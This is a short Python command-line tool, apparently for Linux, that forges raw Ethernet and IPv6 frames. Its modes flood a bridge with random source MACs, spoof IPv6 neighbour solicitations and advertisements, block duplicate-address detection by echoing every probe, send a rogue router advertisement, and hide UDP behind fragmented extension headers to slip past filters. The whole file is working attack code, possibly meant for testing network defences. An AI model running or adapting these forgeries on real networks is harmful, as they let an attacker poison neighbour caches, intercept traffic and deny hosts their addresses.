#!/usr/bin/env python3
"""forge.py WHAT ...: frames over eth0 that an honest stack would not send. MACs as 02:…, addresses as text.
learn MAC N             N frames for the bridge itself (LLDP's address), as from MAC (- is a new one each)
bridge SRC DST PORT     UDP in a frame for the bridge itself
ns MAC SRC TARGET       a neighbour's question as from SRC, with our own MAC in it
na MAC SRC DST TARGET   a neighbour's answer: TARGET is at our MAC
dad SECONDS             asks for each address that somebody else asks for before he takes it
ra                      a router's word to all
nested MAC SRC DST PORT UDP behind two headers of options, cut inside the first"""
import os, socket, struct, sys, time

BRIDGE = bytes.fromhex("0180c200000e")


def summed(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", total ^ 0xFFFF)


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def six(text):
    return socket.inet_pton(socket.AF_INET6, text)


def ip6(src, dst, kind, payload, hops=64):
    return struct.pack("!IHBB", 0x60000000, len(payload), kind, hops) + src + dst + payload


def with_sum(src, dst, kind, packet, at):
    return packet[:at] + summed(src + dst + struct.pack("!II", len(packet), kind) + packet) + packet[at + 2 :]


def icmp6(src, dst, packet):
    return ip6(src, dst, 58, with_sum(src, dst, 58, packet, 2), 255)


s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86DD))
s.bind(("eth0", 0x86DD))
own = s.getsockname()[4]


def send(to, kind, packet, source=own):
    s.send(to + source + struct.pack("!H", kind) + packet)


what, *a = sys.argv[1:]
if what == "learn":
    for _ in range(int(a[1])):
        send(BRIDGE, 0x88CC, bytes(46), b"\2" + os.urandom(5) if a[0] == "-" else mac(a[0]))
elif what == "bridge":
    udp = struct.pack("!HHHH", 4444, int(a[2]), 10, 0) + b"xx"
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 7, 0, 64, 17, 0, socket.inet_aton(a[0]), socket.inet_aton(a[1]))
    send(BRIDGE, 0x0800, head[:10] + summed(head) + head[12:] + udp)
elif what == "ns":
    send(mac(a[0]), 0x86DD, icmp6(six(a[1]), six(a[2]), struct.pack("!BBHI", 135, 0, 0, 0) + six(a[2]) + b"\1\1" + own))
elif what == "na":
    send(mac(a[0]), 0x86DD, icmp6(six(a[1]), six(a[2]), struct.pack("!BBHI", 136, 0, 0, 0x60000000) + six(a[3]) + b"\2\1" + own))
elif what == "ra":
    local = six("fe80::")[:8] + bytes([own[0] ^ 2]) + own[1:3] + b"\xff\xfe" + own[3:]
    send(bytes.fromhex("333300000001"), 0x86DD, icmp6(local, six("ff02::1"), struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)))
elif what == "nested":
    src, dst = six(a[1]), six(a[2])
    udp = with_sum(src, dst, 17, struct.pack("!HHHH", 4444, int(a[3]), 10, 0) + b"xx", 6)
    chain = bytes([60, 1, 0x1E, 12]) + bytes(12) + bytes([17, 0, 1, 4, 0, 0, 0, 0]) + udp
    for at, more, part in ((0, 1, chain[:8]), (8, 0, chain[8:])):
        send(mac(a[0]), 0x86DD, ip6(src, dst, 44, struct.pack("!BBHI", 60, 0, at | more, 77) + part))
elif what == "dad":
    s.settimeout(0.2)
    end = time.time() + float(a[0])
    while time.time() < end:
        try:
            f = s.recv(2000)
        except TimeoutError:
            continue
        if f[6:12] != own and len(f) >= 78 and f[20] == 58 and f[54] == 135 and f[22:38] == bytes(16):
            send(f[:6], 0x86DD, icmp6(bytes(16), f[38:54], struct.pack("!BBHI", 135, 0, 0, 0) + f[62:78]))
            print("asked", socket.inet_ntop(socket.AF_INET6, f[62:78]), flush=True)
